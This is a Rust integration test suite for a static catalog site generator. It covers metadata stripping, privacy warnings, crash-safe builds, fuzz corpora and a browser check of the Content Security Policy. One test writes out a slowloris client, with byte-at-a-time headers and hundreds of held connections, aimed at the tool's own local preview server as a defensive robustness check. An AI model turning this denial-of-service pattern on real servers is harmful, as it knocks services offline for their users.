    let t = CatalogTest::new("minimal");
    let inputs = [
        ("semua.jpg", jpeg_with_every_kind_of_metadata()),
        ("teks.png", png_with_metadata()),
        ("meta.webp", webp_with_metadata()),
    ];
    for (name, bytes) in &inputs {
        t.write(&format!("{PRODUCT}/{name}"), bytes);
    }
    // A logo with metadata too: the icons are made from it.
    t.write("content/logo.jpg", jpeg_with_every_kind_of_metadata());
    t.write(
        "content/catalog.yaml",
        "title: Katalog Uji\nwhatsapp: \"0812-0000-0001\"\nlogo: logo.jpg\n",
    );
    run_limited(&t, &["build", "--lang", "en"], LIMIT).expect(0, "3 processed");
    // The inputs really carry what must not come out.
    for (name, bytes) in &inputs {
        assert!(!metadata_in(name, bytes).is_empty(), "{name} has metadata");
    }
    let originals: Vec<blake3::Hash> = inputs
        .iter()
        .map(|(_, b)| blake3::hash(b))
        .chain([blake3::hash(&jpeg_with_every_kind_of_metadata())])
        .collect();
    let published = files_under(&t.path("public"));
    let images = published
        .iter()
        .filter(|(p, _)| {
            [".jpg", ".png", ".webp", ".ico"]
                .iter()
                .any(|e| p.ends_with(e))
        })
        .count();
    assert!(images >= 10, "{images} images published");
    for (path, bytes) in &published {
        assert_eq!(metadata_in(path, bytes), Vec::<String>::new());
        assert!(
            !originals.contains(&blake3::hash(bytes)),
            "{path} is an original"
        );
    }
    t.check_site("public");
}

#[test]
fn phone_numbers_and_home_addresses_in_descriptions_are_warned_about() {
    let t = CatalogTest::new("minimal");
    t.write(
        &format!("{PRODUCT}/index.md"),
        "---\nmaker: Bu Siti\n---\nKeripik pare renyah, 250 gram Rp 15.000.\n\nPesan ke Bu Siti 0812-3456-7890 atau +62 857 1234 5678.\nRumah: Jl. Melati No. 12, RT 03/RW 05.\n",
    );
    t.write(
        "content/desa-contoh/index.md",
        "Desa kami di Kecamatan Ambulu.\nHubungi 081298765432.\n",
    );
    let run = run_limited(&t, &["check", "--lang", "en"], LIMIT);
    run.expect(
        0,
        "keripik-pare/index.md:6:18: warning: this looks like a personal phone number: the site is public",
    )
    .expect(0, "keripik-pare/index.md:6:38: warning: this looks like a personal phone number")
    .expect(0, "keripik-pare/index.md:7:8: warning: this looks like a home address")
    .expect(0, "keripik-pare/index.md:7:27: warning: this looks like a home address")
    .expect(0, "desa-contoh/index.md:2:9: warning: this looks like a personal phone number")
    .expect(0, "help: delete it here and put the ordering number in the `whatsapp:` field instead");
    assert!(
        !run.stderr.contains("4:"),
        "price line left alone:\n{}",
        run.stderr
    );
}

/// The exact words of the hardening diagnostics, in both languages.
#[test]
fn hardening_messages_are_pinned() {
    let t = CatalogTest::new("minimal");
    t.write(
        &format!("{PRODUCT}/index.md"),
        "Pesan ke 0812-3456-7890, Jl. Melati No. 12.\n",
    );
    t.write(&format!("{PRODUCT}/aux.jpg"), good_jpeg());
    t.write(
        "content/desa-contoh/besar/product.yaml",
        "x".repeat(2 << 20),
    );
    for (lang, name) in [("id", "hardening_check_id"), ("en", "hardening_check_en")] {
        let run = run_limited(&t, &["check", "--lang", lang], LIMIT);
        assert_eq!(run.code, 1, "{}", run.stderr);
        let stderr = run.stderr.replace(&t.path("").display().to_string(), "");
        insta::assert_snapshot!(name, stderr);
    }
}

// --- bounded resources ---------------------------------------------------------------

/// `etalase serve` on a free port, killed when dropped.
struct Server {
    child: std::process::Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        crate::serve::interrupt(&mut self.child);
    }
}

fn serve(t: &CatalogTest) -> Server {
    use std::io::{BufRead, BufReader};
    let mut child = Command::new(env!("CARGO_BIN_EXE_etalase"))
        .args(["serve", "--port", "0", "--cache"])
        .arg(t.path("cache"))
        .current_dir(t.path(""))
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    std::thread::spawn(move || std::io::copy(&mut stdout, &mut std::io::sink()));
    let port = first
        .trim()
        .strip_prefix("serving at http://127.0.0.1:")
        .and_then(|p| p.trim_end_matches('/').parse().ok())
        .unwrap_or_else(|| panic!("first line: {first:?}"));
    Server { child, port }
}

/// `GET /` on a fresh connection; the status line, within `limit`.
fn get_front_page(port: u16, limit: Duration) -> Result<String, String> {
    use std::io::Read;
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).map_err(|e| e.to_string())?;
    s.set_read_timeout(Some(limit)).unwrap();
    s.set_write_timeout(Some(limit)).unwrap();
    s.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        .map_err(|e| e.to_string())?;
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).map_err(|e| e.to_string())?;
    let raw = String::from_utf8_lossy(&raw);
    Ok(raw.lines().next().unwrap_or("").to_string())
}

#[test]
fn the_preview_answers_while_hundreds_of_idle_and_slow_clients_hang_on() {
    let t = CatalogTest::new("minimal");
    let server = serve(&t);
    let port = server.port;
    assert_eq!(
        get_front_page(port, Duration::from_secs(10)).unwrap(),
        "HTTP/1.1 200 OK"
    );
    // 200 connections that never send a byte.
    let idle: Vec<_> = (0..200)
        .map(|_| std::net::TcpStream::connect(("127.0.0.1", port)).unwrap())
        .collect();
    // Slowloris: request headers one byte at a time, never finished.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let slow: Vec<_> = (0..20)
        .map(|_| {
            let stop = stop.clone();
            std::thread::spawn(move || {
                let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
                    return;
                };
                let header = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
                for b in header.iter().cycle() {
                    if stop.load(std::sync::atomic::Ordering::Relaxed) || s.write_all(&[*b]).is_err() {
                        return;
                    }
                    std::thread::sleep(Duration::from_millis(100));
                }
            })
        })
        .collect();
    std::thread::sleep(Duration::from_millis(500));
    for round in 0..5 {
        let start = Instant::now();
        let status = get_front_page(port, Duration::from_secs(5))
            .unwrap_or_else(|e| panic!("round {round}: no answer: {e}"));
        assert_eq!(status, "HTTP/1.1 200 OK", "round {round}");
        assert!(
            start.elapsed() < Duration::from_secs(3),
            "round {round}: {:?}",
            start.elapsed()
        );
    }
    // What holding all those connections costs the server.
    let status = std::fs::read_to_string(format!("/proc/{}/status", server.child.id())).unwrap();
    let field = |name: &str| -> u64 {
        let line = status.lines().find(|l| l.starts_with(name)).unwrap();
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    let (rss_mb, threads) = (field("VmRSS:") / 1024, field("Threads:"));
    eprintln!("serve with 220 clients hanging on: {rss_mb} MB resident, {threads} threads");
    assert!(rss_mb < 100, "{rss_mb} MB");
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    drop(idle);
    for s in slow {
        s.join().unwrap();
    }
}

// --- interrupted builds --------------------------------------------------------------

#[test]
fn a_build_killed_midway_leaves_the_last_good_site_and_the_next_one_succeeds() {
    let t = CatalogTest::new("minimal");
    run_limited(&t, &["build"], LIMIT).expect(0, "");
    let before = t.snapshot("public");
    // Enough photos to take a while: 24 of 2400×1800.
    for i in 0..24 {
        let img = photos::halves(2400 + i, 1800);
        t.write(
            &format!("content/desa-contoh/produk-{i:02}/product.yaml"),
            format!("name: Produk {i}\ncategory: makanan\nprice: 1000\n"),
        );
        t.write(
            &format!("content/desa-contoh/produk-{i:02}/foto.jpg"),
            photos::jpeg(&img),
        );
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_etalase"))
        .arg("build")
        .current_dir(t.path(""))
        .env_remove("ETALASE_CACHE")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Kill it as soon as the first finished photo is in the cache.
    let start = Instant::now();
    let cache = t.path(".etalase-cache/photos");
    loop {
        let some_done = cache.is_dir()
            && walkdir::WalkDir::new(&cache)
                .into_iter()
                .flatten()
                .any(|e| e.file_name() == "meta.json");
        if some_done {
            break;
        }
        assert!(
            child.try_wait().unwrap().is_none(),
            "the build ended before it was killed"
        );
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "no photo finished"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    child.kill().unwrap();
    let status = child.wait().unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(libc::SIGKILL)
    );
    assert_eq!(
        t.snapshot("public"),
        before,
        "public/ is the last good site"
    );

    let run = run_limited(&t, &["build", "--lang", "en"], Duration::from_secs(300));
    run.expect(0, "built");
    assert!(t.path("public/desa-contoh/produk-23/index.html").is_file());
    t.check_site("public");
}

#[test]
fn a_damaged_cache_entry_is_made_again_not_published() {
    let t = with_photo("depan.jpg", &photos::jpeg(&photos::halves(1400, 1000)));
    let first = t.run(&["build", "--lang", "en"]);
    first.expect_code(0);
    assert_eq!(first.processed_and_cached(), (1, 0));
    let entry = walkdir::WalkDir::new(t.path(".etalase-cache/photos"))
        .into_iter()
        .flatten()
        .find(|e| e.file_name() == "meta.json")
        .unwrap()
        .path()
        .parent()
        .unwrap()
        .to_path_buf();
    let jpg = entry.join("640.jpg");
    let webp = entry.join("320.webp");
    let whole_jpg = std::fs::read(&jpg).unwrap();
    for damage in [
        // Cut in half, as a crash in the middle of writing would leave it.
        (jpg.clone(), whole_jpg[..whole_jpg.len() / 2].to_vec()),
        // Emptied.
        (webp.clone(), Vec::new()),
    ] {
        std::fs::write(&damage.0, &damage.1).unwrap();
        let run = t.run(&["build", "--lang", "en"]);
        run.expect_code(0);
        assert_eq!(run.processed_and_cached(), (1, 0), "{}", damage.0.display());
        for (path, bytes) in files_under(&t.path("public")) {
            if path.contains("depan.") && path.ends_with(".jpg") {
                jpeg_decoder::Decoder::new(&bytes[..])
                    .decode()
                    .unwrap_or_else(|e| panic!("{path}: {e}"));
            }
            if path.contains("depan.") && path.ends_with(".webp") {
                image::load_from_memory(&bytes).unwrap_or_else(|e| panic!("{path}: {e}"));
            }
        }
    }
    assert_eq!(
        std::fs::read(&jpg).unwrap(),
        whole_jpg,
        "made again the same"
    );
}

// --- fuzzing -------------------------------------------------------------------------

/// Every file of every fuzz target's corpus (`fuzz/corpus/<target>/`: the seeds and
/// every input a fuzzer found to fail, kept as a regression) through the same code the
/// fuzzers run. CI runs this instead of the fuzzers, which need afl.rs installed.
#[test]
fn the_fuzz_corpora_pass() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus");
    for (name, target) in etalase::testing::fuzz::TARGETS {
        let dir = root.join(name);
        let mut count = 0;
        for entry in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
            let path = entry.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            let result = std::panic::catch_unwind(|| target(&bytes));
            assert!(
                result.is_ok(),
                "fuzz target {name} fails on {}",
                path.display()
            );
            count += 1;
        }
        assert!(count >= 3, "{name}: only {count} corpus files");
    }
}

// --- the policy in a real browser ----------------------------------------------------

/// A plain static file server for `dir` on 127.0.0.1, on its own thread.
fn static_server(dir: std::path::PathBuf) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let dir = dir.clone();
            std::thread::spawn(move || {
                let _ = serve_file(stream, &dir);
            });
        }
    });
    port
}

fn serve_file(mut stream: std::net::TcpStream, dir: &Path) -> std::io::Result<()> {
    use std::io::{BufRead, BufReader};
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    reader.read_line(&mut line)?;
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h)? <= 2 {
            break;
        }
    }
    let path = line
        .split(' ')
        .nth(1)
        .unwrap_or("/")
        .split('?')
        .next()
        .unwrap();
    let path = percent_decode(path);
    let mut file = dir.join(path.trim_start_matches('/'));
    if file.is_dir() {
        file = file.join("index.html");
    }
    let (status, body) = match std::fs::read(&file) {
        Ok(b) if !path.contains("..") => ("200 OK", b),
        _ => (
            "404 Not Found",
            std::fs::read(dir.join("404.html")).unwrap_or_default(),
        ),
    };
    let kind = match file.extension().and_then(|e| e.to_str()).unwrap_or("") {
        "html" => "text/html; charset=utf-8",
        "css" => "text/css",
        "js" => "text/javascript",
        "json" => "application/json",
        "webmanifest" => "application/manifest+json",
        "svg" => "image/svg+xml",
        "png" => "image/png",
        "jpg" => "image/jpeg",
        "webp" => "image/webp",
        "xml" => "application/xml",
        _ => "application/octet-stream",
    };
    write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )?;
    stream.write_all(&body)
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && let Some(v) = s
                .get(i + 1..i + 3)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
        {
            out.push(v);
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The sample site in chromium, every page over http and some from disk: the policy is
/// there, nothing of the site violates it, and it blocks injected script.
#[test]
fn the_sample_site_raises_no_content_security_policy_violation_in_a_real_browser() {
    let t = sample_site();
    let public = t.path("public");
    let port = static_server(public.clone());
    let mut pages: Vec<String> = html_pages(&public).into_iter().map(|(p, _)| p).collect();
    pages.sort();
    let mut urls: Vec<String> = pages
        .iter()
        .map(|p| {
            format!(
                "http://127.0.0.1:{port}/{}",
                p.trim_end_matches("index.html")
            )
        })
        .collect();
    for p in pages.iter().filter(|p| p.matches('/').count() <= 1).take(4) {
        urls.push(format!("file://{}", public.join(p).display()));
    }
    let product = pages
        .iter()
        .find(|p| p.matches('/').count() == 2)
        .unwrap()
        .trim_end_matches("index.html");
    let plan = serde_json::json!({
        "urls": urls,
        "probe": format!("http://127.0.0.1:{port}/{product}"),
    });
    let seen = crate::support::browser_script("csp.mjs", &plan);
    let seen_pages = seen["pages"].as_array().unwrap();
    assert_eq!(seen_pages.len(), urls.len());
    for page in seen_pages {
        let url = page["url"].as_str().unwrap();
        assert!(
            page["policy"]
                .as_str()
                .unwrap()
                .starts_with("default-src 'self'"),
            "{url}: no policy"
        );
        assert_eq!(page["violations"], serde_json::json!([]), "{url}");
        // The 404 page loads the site's files from its real address (base_url), which
        // this test's browser cannot reach; the policy allows them (checked above).
        if !url.ends_with("/404.html") {
            assert_eq!(page["errors"], serde_json::json!([]), "{url}");
        }
    }
    assert_eq!(
        seen["probe"]["ran"], false,
        "injected script ran: {}",
        seen["probe"]
    );
    let violations = seen["probe"]["violations"].to_string();
    assert!(violations.contains("script-src"), "{violations}");
}

/// Kills builds of 2,000 pages at moments spread over the whole run, the writing of
/// pages included: `public/` is always either the whole last good site or the whole
/// new one, never a mix.
#[test]
fn a_build_killed_at_any_moment_leaves_a_whole_site() {
    let t = CatalogTest::new("minimal");
    run_limited(&t, &["build"], LIMIT).expect(0, "");
    let before = t.snapshot("public");
    for i in 0..2000 {
        t.write(
            &format!("content/desa-contoh/produk-{i:04}/product.yaml"),
            format!("name: Produk {i}\ncategory: makanan\nprice: {}\n", 1000 + i),
        );
    }
    // How long a whole build takes here, to spread the kills over it.
    let probe = CatalogTest::new("minimal");
    copy_dir(&t.path("content"), &probe.path("content"));
    let whole = run_limited(&probe, &["build"], Duration::from_secs(300));
    whole.expect(0, "");
    let after = probe.snapshot("public");
    let mut killed = 0;
    for step in 1..=8 {
        let delay = Duration::from_secs_f64(whole.secs * f64::from(step) / 9.0);
        let mut child = Command::new(env!("CARGO_BIN_EXE_etalase"))
            .arg("build")
            .current_dir(t.path(""))
            .env_remove("ETALASE_CACHE")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(delay);
        let finished = child.try_wait().unwrap().is_some();
        if !finished {
            child.kill().unwrap();
            killed += 1;
        }
        child.wait().unwrap();
        let now = t.snapshot("public");
        assert!(
            now == before || now == after,
            "killed after {delay:?}: public/ is neither the old site nor the new one"
        );
    }
    assert!(
        killed >= 4,
        "only {killed} of 8 builds were still running when killed"
    );
    run_limited(&t, &["build"], Duration::from_secs(300)).expect(0, "");
    assert_eq!(t.snapshot("public"), after);
    t.check_site("public");
}

fn copy_dir(from: &Path, to: &Path) {
    for entry in walkdir::WalkDir::new(from) {
        let entry = entry.unwrap();
        let target = to.join(entry.path().strip_prefix(from).unwrap());
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// Photos are processed one per worker thread: eight times the photos take about the
/// same peak memory.
#[test]
fn peak_memory_does_not_grow_with_the_number_of_photos() {
    let peak = |photos_n: u32| {
        let t = CatalogTest::new("minimal");
        for i in 0..photos_n {
            t.write(
                &format!("{PRODUCT}/foto-{i:02}.jpg"),
                photos::jpeg(&photos::halves(2400 + i, 1800)),
            );
        }
        let run = run_limited(&t, &["build"], Duration::from_secs(300));
        run.expect(0, "");
        run.peak_rss_mb
    };
    let (few, many) = (peak(2), peak(16));
    eprintln!("peak RSS: 2 photos {few} MB, 16 photos {many} MB");
    assert!(
        many < few + few / 2 + 20,
        "2 photos {few} MB, 16 photos {many} MB"
    );
}
